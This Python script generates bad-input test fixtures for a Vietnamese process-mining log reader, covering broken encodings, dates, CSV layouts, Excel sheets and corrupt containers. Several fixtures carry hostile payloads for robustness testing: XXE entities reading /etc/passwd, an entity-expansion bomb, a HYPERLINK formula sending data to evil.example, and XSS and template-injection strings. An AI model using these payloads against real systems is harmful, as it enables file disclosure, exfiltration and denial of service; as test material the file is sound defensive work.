"""Re-create the bad-input files of this folder (run: python tests/data/bad/make_bad_inputs.py).

Every file is small and written byte for byte here, so its content is reviewable; what the reader
must do with each one is written by hand in ``expected.yaml`` (not produced by the reader).
"""
from __future__ import annotations

import gzip
import unicodedata
from pathlib import Path

HERE = Path(__file__).resolve().parent
H = "Mã hồ sơ,Bước xử lý,Thời điểm bắt đầu,Thời điểm kết thúc,Cán bộ xử lý,Đơn vị xử lý"
NFD = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731


def cp1258(s: str) -> bytes:
    """Encode to Windows-1258 the way Vietnamese Windows does: precomposed letters where the
    code page has them (â, ê, ô, ơ, ư, đ, ...), tone marks as combining characters."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", s):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        d = unicodedata.normalize("NFD", ch)
        base, marks = d[0], d[1:]
        for i, m in enumerate(marks):  # fold one mark into the base letter (â, ơ, ...)
            composed = unicodedata.normalize("NFC", base + m)
            rest = marks[:i] + marks[i + 1:]
            try:
                out += (composed + rest).encode("cp1258")
                break
            except UnicodeEncodeError:
                continue
        else:
            out += d.encode("cp1258")
    return bytes(out)


def text(name: str, body: str, encoding: str = "utf-8", newline: str = "\n") -> None:
    body = body.replace("\n", newline)
    data = cp1258(body) if encoding == "cp1258" else body.encode(encoding)
    (HERE / name).write_bytes(data)


def main() -> None:
    # 1. Windows-1258: tone marks are combining characters in this code page
    text("win1258.csv",
         "Mã hồ sơ;Bước xử lý;Thời điểm kết thúc;Cán bộ xử lý\n"
         "HS01;Tiếp nhận hồ sơ;02/01/2024 08:00:00;Nguyễn Thị Hồng\n"
         "HS01;Thẩm định;03/01/2024 09:30:00;Trần Văn Đức\n"
         "HS01;Trả kết quả;05/01/2024 15:00:00;Nguyễn Thị Hồng\n", encoding="cp1258",
         newline="\r\n")
    # 2. UTF-16 with BOM, tab separated (Excel's "Unicode text")
    text("utf16_tab.txt",
         "Mã hồ sơ\tBước xử lý\tThời điểm kết thúc\n"
         "HS01\tTiếp nhận hồ sơ\t02/01/2024 08:00\n"
         "HS01\tThẩm định\t03/01/2024 09:30\n"
         "HS02\tTiếp nhận hồ sơ\t04/01/2024 10:00\n", encoding="utf-16", newline="\r\n")
    # 3. UTF-16 little endian without BOM
    text("utf16le_nobom.csv",
         "MaHoSo,NodeQuyTrinh,ThoiDiemXuLy\n"
         "HS01,Tiếp nhận,2024-01-02 08:00:00\n"
         "HS01,Phê duyệt,2024-01-03 08:00:00\n", encoding="utf-16-le")
    # 4. UTF-8 with BOM (what Excel writes as "CSV UTF-8")
    text("utf8_bom.csv", "\ufeff" + H + "\n"
         "HS01,Tiếp nhận hồ sơ,,02/01/2024 08:00:00,Lê Hoa,Một cửa\n"
         "HS01,Thẩm định,02/01/2024 09:00:00,03/01/2024 16:00:00,Phạm Nam,Phòng Tư pháp\n")
    # 5. the same activity typed in NFD and NFC
    text("nfd_text.csv", H + "\n"
         f"HS01,{NFD('Thẩm định')},,02/01/2024 08:00:00,{NFD('Lê Hoa')},Một cửa\n"
         "HS01,Thẩm định,,03/01/2024 08:00:00,Lê Hoa,Một cửa\n"
         f"HS02,{NFD('Thẩm định')},,04/01/2024 08:00:00,Lê Hoa,Một cửa\n")
    # 6. three date formats in one column
    text("mixed_dates.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "HS01,Thẩm định,2024-01-03T09:30:00\n"
         "HS01,Phê duyệt,20240104100000\n"
         "HS01,Trả kết quả,5/1/2024 15:00\n")
    # 7. no case-id column
    text("missing_case_column.csv", "Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
         "Tiếp nhận hồ sơ,02/01/2024 08:00:00,Lê Hoa\n")
    # 8. empty file, 9. header only
    text("empty.csv", "")
    text("header_only.csv", H + "\n")
    # 10. exact duplicate rows (an export joined twice)
    text("duplicates.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Lê Hoa\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,Phạm Nam\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,Phạm Nam\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,Phạm Nam\n"
         "HS01,Trả kết quả,04/01/2024 08:00:00,Lê Hoa\n")
    # 11. events out of order (sorted, reported)
    text("out_of_order.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS02,Trả kết quả,10/01/2024 10:00:00\n"
         "HS01,Phê duyệt,04/01/2024 08:00:00\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "HS02,Tiếp nhận hồ sơ,05/01/2024 08:00:00\n"
         "HS01,Thẩm định,03/01/2024 08:00:00\n")
    # 12. unparsable times (impossible date, text, hour 25)
    text("unparsable_times.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "HS01,Thẩm định,31/02/2024 08:00:00\n"
         "HS01,Phê duyệt,chưa xử lý\n"
         "HS01,Trả kết quả,05/01/2024 25:00:00\n"
         "HS02,Tiếp nhận hồ sơ,\n")
    # 13. missing case ids (empty and blanks)
    text("missing_case_ids.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         ",Thẩm định,03/01/2024 08:00:00\n"
         "   ,Phê duyệt,04/01/2024 08:00:00\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00\n"
         "HS02,,05/01/2024 09:00:00\n")
    # 14. end before start
    text("end_before_start.csv", H + "\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,02/01/2024 08:10:00,Lê Hoa,Một cửa\n"
         "HS01,Thẩm định,05/01/2024 09:00:00,03/01/2024 16:00:00,Phạm Nam,Phòng Tư pháp\n"
         "HS01,Trả kết quả,,06/01/2024 10:00:00,Lê Hoa,Một cửa\n")
    # 15. semicolon separated, quoted fields with ; and a newline inside
    text("semicolon.csv", "Mã hồ sơ;Bước xử lý;Thời điểm kết thúc;Lý do\n"
         'HS01;Tiếp nhận hồ sơ;02/01/2024 08:00:00;"thiếu; bản sao"\n'
         'HS01;Yêu cầu bổ sung hồ sơ;03/01/2024 08:00:00;"dòng 1\ndòng 2"\n'
         "HS01;Trả kết quả;05/01/2024 08:00:00;\n")
    # 16. national-portal compact timestamps yyyyMMddHHmmss
    text("compact_dates.csv", "MaHoSo,ThaoTac,ThoiDiemXuLy,NgayTiepNhan,NgayHenTra\n"
         "000.00.01.H22-240102-0001,Tiếp nhận hồ sơ,20240102080000,20240102080000,20240112170000\n"
         "000.00.01.H22-240102-0001,Trả kết quả,20240110143000,20240102080000,20240112170000\n")
    # 17. a sync job's injected rows (domain notes 2.3)
    text("injected_sync.csv",
         "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý,Ngày tiếp nhận,NgayKetThucXuLy\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Cán bộ một cửa,02/01/2024 08:00:00,05/01/2024\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,Phạm Nam,02/01/2024 08:00:00,05/01/2024\n"
         "HS01,Kết thúc xử lý hồ sơ,05/01/2024 00:00:00,Chuyên viên,02/01/2024 08:00:00,05/01/2024\n"
         "HS02,Tiếp nhận hồ sơ,03/01/2024 00:00:00,,03/01/2024 09:15:00,\n"
         "HS03,Tiếp nhận hồ sơ,04/01/2024 08:00:00,Lê Hoa,04/01/2024 08:00:00,\n")
    # 18. malformed records: one with an extra non-empty field, one short
    text("malformed_records.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Lê Hoa\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,Phạm Nam,LỖI\n"
         "HS01,Phê duyệt,04/01/2024 08:00:00\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00,Lê Hoa,\n")
    # 19. not text at all (a PNG header renamed .csv)
    (HERE / "binary.csv").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"
                                      b"\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa")
    # 20. month-first dates (a US-locale export)
    text("month_first.csv", "Case ID,Activity,Complete Timestamp\n"
         "C1,Register,01/02/2024 08:00:00 AM\n"
         "C1,Approve,01/13/2024 02:30:00 PM\n"
         "C1,Close,02/01/2024 09:00:00 AM\n")
    # 21. events after the dossier was closed, and inconsistent dossier attributes
    text("after_close.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Ngày hẹn trả,Kênh nộp\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,10/01/2024 17:00:00,Trực tuyến\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00,10/01/2024 17:00:00,2\n"
         "HS01,Cập nhật hồ sơ,06/01/2024 08:00:00,12/01/2024 17:00:00,Fax\n")
    # 22. gzip-compressed CSV
    with open(HERE / "compressed.csv.gz", "wb") as raw, \
            gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, filename="") as fh:
        fh.write((H + "\nHS01,Tiếp nhận hồ sơ,,02/01/2024 08:00:00,Lê Hoa,Một cửa\n").encode())
    # 23-26. XES: external entity (XXE), entity expansion bomb, DOCTYPE after a comment,
    # malformed XML, an event outside any trace
    (HERE / "xxe_external.xes").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE log [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
        '<log xes.version="1.0"><trace><string key="concept:name" value="c1"/>'
        '<event><string key="concept:name" value="&secret;"/>'
        '<date key="time:timestamp" value="2024-01-02T08:00:00+07:00"/></event></trace></log>\n',
        encoding="utf-8")
    (HERE / "xxe_bomb.xes").write_text(
        '<?xml version="1.0"?>\n<!-- harmless comment first -->\n'
        '<!DOCTYPE log [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
        '<log><trace><string key="concept:name" value="&c;"/></trace></log>\n', encoding="utf-8")
    (HERE / "broken.xes").write_text(
        '<?xml version="1.0"?>\n<log>\n<trace><string key="concept:name" value="c1"/>\n'
        '<event><string key="concept:name" value="A"/>\n'
        '<date key="time:timestamp" value="2024-01-02T08:00:00"/></trace></log>\n',
        encoding="utf-8")
    (HERE / "orphan_event.xes").write_text(
        '<?xml version="1.0"?>\n<log xmlns="http://www.xes-standard.org/">\n'
        '<event><string key="concept:name" value="lost"/>'
        '<date key="time:timestamp" value="2024-01-01T08:00:00+07:00"/></event>\n'
        '<trace><string key="concept:name" value="c1"/>\n'
        '<event><string key="concept:name" value="A"/>'
        '<date key="time:timestamp" value="2024-01-02T08:00:00+07:00"/></event>\n'
        '<event><string key="concept:name" value="B"/>'
        '<date key="time:timestamp" value="not a date"/></event>\n'
        '</trace></log>\n', encoding="utf-8")
    # 27-28. Excel: title rows above the header; serial dates stored as numbers
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    ws.append(["BÁO CÁO TÌNH HÌNH GIẢI QUYẾT HỒ SƠ"])
    ws.append(["Từ ngày 01/01/2024 đến ngày 31/01/2024"])
    ws.append([])
    ws.append(["STT", "Mã hồ sơ", "Bước xử lý", "Thời điểm kết thúc", "Cán bộ xử lý"])
    ws.append([1, "HS01", "Tiếp nhận hồ sơ", "02/01/2024 08:00:00", "Lê Hoa"])
    ws.append([2, "HS01", "Thẩm định", "03/01/2024 09:30:00", "Phạm Nam"])
    ws.append([])
    ws.append([3, "HS02", "Tiếp nhận hồ sơ", "04/01/2024 10:00:00", "Lê Hoa"])
    wb.save(HERE / "title_rows.xlsx")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Mã hồ sơ", "Bước xử lý", "Thời điểm kết thúc", "Ngày hẹn trả"])
    ws.append(["HS01", "Tiếp nhận hồ sơ", 45293.333333333336, 45303])  # 2024-01-02 08:00
    ws.append(["HS01", "Trả kết quả", 45300.625, 45303])              # 2024-01-09 15:00
    wb.save(HERE / "excel_serial.xlsx")


def tcvn3(s: str) -> bytes:
    """TCVN3 (ABC, .VnTime fonts) bytes of ``s`` (TCVN 5712:1993 table, as glibc's iconv)."""
    import tthc_mining.io.legacy  # noqa: F401  (registers the codec)
    return unicodedata.normalize("NFC", s).encode("tcvn3")


def xlsx(name: str, sheets: dict, merges: dict | None = None) -> None:
    import openpyxl
    wb = openpyxl.Workbook()
    first = True
    for title, rows in sheets.items():
        ws = wb.active if first else wb.create_sheet()
        ws.title = title
        first = False
        for r in rows:
            ws.append(r)
        for rng in (merges or {}).get(title, []):
            ws.merge_cells(rng)
    wb.save(HERE / name)


def more() -> None:
    """Issue 8: the second half of the set (30-65)."""
    # 30-31. legacy TCVN3 font encoding: raw bytes in a CSV, font code points in Excel cells
    (HERE / "tcvn3.csv").write_bytes(tcvn3(
        "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
        "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Nguyễn Thị Hồng\n"
        "HS01,Thẩm định,03/01/2024 09:30:00,Trần Văn Đức\n"
        "HS01,Trả kết quả,05/01/2024 15:00:00,Nguyễn Thị Hồng\n"))
    font = lambda s: tcvn3(s).decode("latin-1")  # noqa: E731  (what Excel stores)
    xlsx("tcvn3_cells.xlsx", {"Sheet": [
        ["Mã hồ sơ", "Bước xử lý", "Thời điểm kết thúc", "Cán bộ xử lý"],
        ["HS01", font("Tiếp nhận hồ sơ"), "02/01/2024 08:00:00", font("Nguyễn Thị Hồng")],
        ["HS01", font("Trả kết quả"), "05/01/2024 15:00:00", font("Trần Văn Đức")]]})
    # 32. UTF-8 with one line written in Windows-1258 by an older program
    (HERE / "mixed_encoding.csv").write_bytes(
        "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
        "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Lê Hoa\n".encode("utf-8")
        + cp1258("HS01,Thẩm định,03/01/2024 09:30:00,Trần Văn Đức\n")
        + "HS01,Trả kết quả,05/01/2024 15:00:00,Lê Hoa\n".encode("utf-8"))
    # 33. UTF-16 big endian with BOM, ';' separated
    text("utf16be_bom.csv", "Mã hồ sơ;Bước xử lý;Thời điểm kết thúc\n"
         "HS01;Tiếp nhận hồ sơ;02/01/2024 08:00:00\n"
         "HS01;Phê duyệt;03/01/2024 08:00:00\n", encoding="utf-16-be")
    (HERE / "utf16be_bom.csv").write_bytes(b"\xfe\xff" + (HERE / "utf16be_bom.csv").read_bytes())
    # 34. tab separated UTF-8 (.tsv)
    text("tab_utf8.tsv", "Mã hồ sơ\tBước xử lý\tThời điểm kết thúc\tĐơn vị xử lý\n"
         "HS01\tTiếp nhận hồ sơ\t02/01/2024 08:00:00\tMột cửa, tầng 1\n"
         "HS01\tThẩm định\t03/01/2024 08:00:00\tPhòng Tư pháp\n")
    # 35. quoted CRLF line breaks and doubled quotes inside fields, CRLF records
    text("quoted_newlines.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Lý do\n"
         'HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,"Đã nhận ""bản chính""\ntheo danh mục"\n'
         'HS01,Yêu cầu bổ sung hồ sơ,03/01/2024 08:00:00,"thiếu:\n- giấy A\n- giấy B, C"\n'
         "HS01,Trả kết quả,05/01/2024 08:00:00,\n", newline="\r\n")
    # 36-37. a 300,000-character note (fast path; and with a malformed record: exact path)
    long = "Ghi chú " + "x" * 299_992
    text("long_field.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Lý do\n"
         f"HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,{long}\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00,\n")
    text("long_field_malformed.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Lý do\n"
         f'HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,"{long}"\n'
         "HS01,Thẩm định,03/01/2024 08:00:00,,THỪA\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00,\n")
    # 38. Excel serial numbers written into a CSV
    text("excel_serial.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Ngày hẹn trả\n"
         "HS01,Tiếp nhận hồ sơ,45293.333333333336,45303\n"
         "HS01,Trả kết quả,45300.625,45303\n")
    # 39. two-digit years
    text("two_digit_year.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/24 08:00\n"
         "HS01,Trả kết quả,05/01/24 15:30\n")
    # 40. dd/mm and mm/dd in one column: 13/01 is day-first, 01/14 month-first, 02/01 ambiguous
    text("day_month_mixed.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,13/01/2024 08:00:00\n"
         "HS01,Thẩm định,01/14/2024 08:00:00\n"
         "HS01,Trả kết quả,02/01/2024 08:00:00\n")
    # 41. time zones and UTC offsets
    text("offsets.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,2024-01-02T08:00:00+07:00\n"
         "HS01,Thẩm định,2024-01-03T02:30:00Z\n"
         "HS01,Phê duyệt,2024-01-03 20:00:00-0500\n"
         "HS01,Trả kết quả,2024-01-05 15:00:00\n")
    # 42. far future and before 1990 (kept, flagged); a due date in the future is normal
    text("implausible_dates.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Ngày hẹn trả\n"
         "HS01,Tiếp nhận hồ sơ,02/01/1985 08:00:00,10/01/2099 17:00:00\n"
         "HS01,Thẩm định,03/01/2024 08:00:00,10/01/2099 17:00:00\n"
         "HS01,Trả kết quả,05/01/2099 08:00:00,10/01/2099 17:00:00\n")
    # 43. dossiers with one event each
    text("one_event.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "HS02,Trả kết quả,03/01/2024 08:00:00\n"
         "HS03,Thẩm định,04/01/2024 08:00:00\n")
    # 44. a dossier without receipt, one without result
    text("no_receipt_no_result.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Thẩm định,02/01/2024 08:00:00\n"
         "HS01,Trả kết quả,03/01/2024 08:00:00\n"
         "HS02,Tiếp nhận hồ sơ,02/01/2024 09:00:00\n"
         "HS02,Thẩm định,04/01/2024 09:00:00\n")
    # 45. the same export twice in one file (header repeated in the middle)
    part = ("Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
            "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
            "HS01,Trả kết quả,05/01/2024 08:00:00\n")
    text("concatenated.csv", part + part)
    # 46-48. Excel: merged cells; several data sheets; a cover sheet before the log
    hdr = ["Mã hồ sơ", "Bước xử lý", "Thời điểm kết thúc", "Đơn vị xử lý"]
    xlsx("merged_cells.xlsx", {"Nhật ký": [
        hdr,
        ["HS01", "Tiếp nhận hồ sơ", "02/01/2024 08:00:00", "Một cửa"],
        [None, "Thẩm định", "03/01/2024 08:00:00", "Phòng Tư pháp"],
        [None, "Trả kết quả", "05/01/2024 08:00:00", None],
        ["HS02", "Tiếp nhận hồ sơ", "04/01/2024 08:00:00", "Một cửa"],
        [None, "Trả kết quả", "06/01/2024 08:00:00", "Một cửa"]]},
        merges={"Nhật ký": ["A2:A4", "A5:A6", "D3:D4"]})
    xlsx("several_sheets.xlsx", {
        "Tháng 1": [hdr, ["HS01", "Tiếp nhận hồ sơ", "02/01/2024 08:00:00", "Một cửa"]],
        "Tháng 2": [hdr, ["HS09", "Tiếp nhận hồ sơ", "02/02/2024 08:00:00", "Một cửa"]],
        "Hướng dẫn": [["Sheet này mô tả các cột"]]})
    xlsx("cover_sheet.xlsx", {
        "Bìa": [["BÁO CÁO"], ["Ủy ban nhân dân tỉnh"]],
        "Dữ liệu": [hdr, ["HS01", "Tiếp nhận hồ sơ", "02/01/2024 08:00:00", "Một cửa"]]})
    # 49-52. XES: external DTD (no entity), DOCTYPE in UTF-16, junk after the root, deep nesting
    (HERE / "xxe_external_dtd.xes").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE log SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
        '<log><trace><string key="concept:name" value="c1"/><event>'
        '<string key="concept:name" value="A"/>'
        '<date key="time:timestamp" value="2024-01-02T08:00:00"/></event></trace></log>\n',
        encoding="utf-8")
    (HERE / "xxe_utf16.xes").write_bytes(
        ('<?xml version="1.0" encoding="UTF-16"?>\n'
         '<!DOCTYPE log [<!ENTITY s SYSTEM "file:///etc/hostname">]>\n'
         '<log><trace><string key="concept:name" value="&s;"/></trace></log>\n').encode("utf-16"))
    (HERE / "trailing_junk.xes").write_text(
        '<?xml version="1.0"?>\n<log><trace><string key="concept:name" value="c1"/><event>'
        '<string key="concept:name" value="A"/>'
        '<date key="time:timestamp" value="2024-01-02T08:00:00"/></event></trace></log>\n'
        '<log>second root</log>\n', encoding="utf-8")
    depth = 3000
    (HERE / "deep_nesting.xes").write_text(
        '<?xml version="1.0"?>\n<log><trace><string key="concept:name" value="c1"/><event>'
        '<string key="concept:name" value="A"/>'
        '<date key="time:timestamp" value="2024-01-02T08:00:00"/>'
        + '<list key="l">' * depth + '<string key="deep" value="x"/>' + '</list>' * depth
        + '</event></trace></log>\n', encoding="utf-8")
    # 53-55. containers that lie: a zip that is no workbook, a broken Parquet, a cut gzip
    import zipfile
    with zipfile.ZipFile(HERE / "not_a_workbook.xlsx", "w") as zf:
        zf.writestr("hello.txt", "not a spreadsheet")
    (HERE / "corrupt.parquet").write_bytes(b"PAR1" + b"\x00garbage" * 20 + b"PAR1")
    data = gzip.compress((H + "\n" + "HS01,Tiếp nhận hồ sơ,,02/01/2024 08:00:00,Lê Hoa,Một cửa\n"
                          * 50).encode(), mtime=0)
    (HERE / "truncated.csv.gz").write_bytes(data[: len(data) // 2])
    # 56. a header of 6,000 columns (over max_columns)
    text("wide_header.csv", ",".join(["Mã hồ sơ", "Bước xử lý", "Thời điểm kết thúc"]
                                     + [f"c{i}" for i in range(6000)]) + "\n"
         + "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00" + "," * 6000 + "\n")
    # 57-58. hostile cell content: spreadsheet formulas and markup (read verbatim)
    text("formula_cells.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý,Lý do\n"
         'HS01,"=HYPERLINK(""http://evil.example/?x=""&A1,""Xem"")",02/01/2024 08:00:00,'
         "+84 912 345 678,@SUM(A1:A9)\n"
         "HS01,-2+3,03/01/2024 08:00:00,\tcmd,=1+1\n")
    text("hostile_markup.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý,Đơn vị xử lý\n"
         "HS01,<script>alert(1)</script>,02/01/2024 08:00:00,"
         '"""><svg onload=alert(2)>",{{7*7}}\n'
         "HS01,Trả kết quả]]></x><!--,03/01/2024 08:00:00,a&amp;b,Phòng <b>Tư pháp</b>\n")
    # 59. classic Mac line ends (CR only)
    text("cr_only.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "HS01,Trả kết quả,05/01/2024 08:00:00\n", newline="\r")
    # 60-61. only blank lines; only a byte-order mark
    text("blank_lines_only.csv", "\n   \n\t\n\n")
    (HERE / "bom_only.csv").write_bytes(b"\xef\xbb\xbf")
    # 62. one NUL byte inside an otherwise normal UTF-8 file
    (HERE / "nul_byte.csv").write_bytes(
        "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\nHS01,Tiếp\x00 nhận,02/01/2024 08:00:00\n"
        .encode("utf-8"))
    # 63. terminal escape sequences and other control characters inside cells
    text("control_chars.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,\x1b[31mLê Hoa\x1b[0m\n"
         "HS01,Trả\x0bkết quả,05/01/2024 08:00:00,Lê\x07Hoa\n")
    # 64. dossier ids with leading zeros (must stay text)
    text("leading_zero_ids.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc\n"
         "000123,Tiếp nhận hồ sơ,02/01/2024 08:00:00\n"
         "123,Tiếp nhận hồ sơ,03/01/2024 08:00:00\n"
         "1.23E+5,Tiếp nhận hồ sơ,04/01/2024 08:00:00\n")
    # 65. the same header twice
    text("duplicate_headers.csv", "Mã hồ sơ,Bước xử lý,Thời điểm kết thúc,Cán bộ xử lý,Cán bộ xử lý\n"
         "HS01,Tiếp nhận hồ sơ,02/01/2024 08:00:00,Lê Hoa,Phạm Nam\n")


if __name__ == "__main__":
    main()
    more()
